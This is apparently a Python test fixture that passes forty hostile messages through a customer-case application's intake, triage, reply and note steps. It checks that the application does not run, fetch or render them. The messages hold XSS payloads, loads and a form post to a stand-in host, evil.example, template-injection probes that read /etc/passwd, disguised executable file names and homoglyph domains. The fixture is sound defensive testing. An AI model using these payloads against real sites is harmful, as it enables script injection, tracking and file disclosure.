"""Forty messages as somebody would write them who wants the desk to run, fetch or show what it
must not."""

from __future__ import annotations

from casebook import models as m
from casebook import moves
from casebook.clock import now
from casebook.types import Attachment, Conduct, Kind, Relation, RelationKind, Reply, Span, Triage
from casebook.types import Channel as C
from casebook.types import Visibility as V
from tests.casebook.test_moves import inbound, received

EVIL = "https://evil.example"
"""Where whatever was fetched would come from."""

MESSAGES = (
    "<script>document.title='owned'</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</div></main></body><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    f'<img src="{EVIL}/track.gif" width=1 height=1>',
    f'<picture><source srcset="{EVIL}/a.webp"><img src="{EVIL}/a.png"></picture>',
    "<svg onload=\"document.title='owned'\"><animate attributeName=href values=javascript:1></svg>",
    f'<svg><image href="{EVIL}/a.svg"/><use href="{EVIL}/b.svg#x"/></svg>',
    "<svg><script>document.title='owned'</script></svg>",
    f"<style>@import url({EVIL}/x.css); body{{display:none}}</style>",
    f'<div style="background:url({EVIL}/bg.png);position:fixed;inset:0">覆う</div>',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel="prefetch" href="{EVIL}/p">',
    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/go"><base href="{EVIL}/">',
    f'<form action="{EVIL}/steal"><button autofocus onfocus="document.title=1">送信</button></form>',
    "<details open ontoggle=\"document.title='owned'\"><summary>詳細</summary></details>",
    "<a href=\"javascript:document.title='owned'\">こちら</a>",
    "[こちら](javascript:document.title='owned') ![画像](https://evil.example/m.png)",
    "data:text/html,<script>document.title='owned'</script>",
    f'<video autoplay poster="{EVIL}/p.png"><source src="{EVIL}/v.mp4"></video>',
    "{{ request.user.password }} {% debug %} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "{{constructor.constructor('document.title=1')()}} {{7*7}}",
    '" autofocus onfocus="document.title=\'owned\'" x="',
    "' onmouseover='document.title=1' x='",
    "\u202egnp.exe\u202c 請求書.\u202efdp.scr",
    "\u2066\u2067\u2068" * 200 + "終わり",
    "\u200b\u200c\u200d\ufeff" * 500 + "見えない",
    "pаypаl.com と аpple.com と ｅｖｉｌ．ｅｘａｍｐｌｅ",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞" * 40,
    "W" * 20_000,
    "とても長い文章が続きます。" * 20_000,
    "\n" * 5_000 + "下の方",
    "> " * 2_000 + "深い引用",
    "<div>" * 5_000 + "深い" + "</div>" * 5_000,
    "[" * 5_000 + "]" * 5_000,
    "\x00\x01\x02\x1b[2J\x1b]0;owned\x07 制御文字 \r\r\n",
    "👩‍👩‍👧‍👦" * 500 + "🏴‍☠️",
    "السلام عليكم ورحمة الله <b>مرحبا</b> שלום",
    '<x hx-get="/account" hx-trigger="load" hx-swap="outerHTML" data-key="u" data-opens="keys">',
    '</textarea></title><!--<![CDATA[ --><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
"""Each one's text, subject, name and file name are the same."""


def fill() -> list[str]:
    """Take all of them in, each with a case of its own; returns the receipts."""
    return [_taken(text, number) for number, text in enumerate(MESSAGES)]


def _taken(text: str, number: int) -> str:
    public = number % 2
    (key,) = received(
        inbound(
            subject=text[:1_000], text=f"{text}\n-- \n{text}", new_text=text, display_name=text[:300],
            channel=C.X if public else C.EMAIL, visibility=V.PUBLIC if public else V.PRIVATE,
            sent_at=now(), author=f"{text[:200]}@example.net",
            attachments=(Attachment(text[:200], "text/html", 10**12),),
        )
    )  # fmt: skip
    moves.relate([moves.Related(key, Relation(RelationKind.NEW), "ja", ())])
    case = m.Case.objects.get(messages=key)
    middle = min(len(text), 300)
    spans = (
        Span("crisis:<b>injury</b>", 0, middle, text[:middle]),
        Span("demand:refund", middle // 2, middle + 5, ""),
    )
    triage = Triage(
        Kind.COMPLAINT, number % 4, Conduct.ORDINARY, "ja", products=(text[:250],), evidence=spans,
        crisis=("injury",),
    )  # fmt: skip
    reply = Reply(C.EMAIL, V.PRIVATE, "ja", f"Re: {text[:200]}", text[:3_000], None, number % 4)
    moves.answer([moves.Answered(case.pk, {key: triage}, reply=reply)])
    moves.note(case.pk, "lead", f"@lead {text[:5_000]}", ["lead"])
    return case.receipt
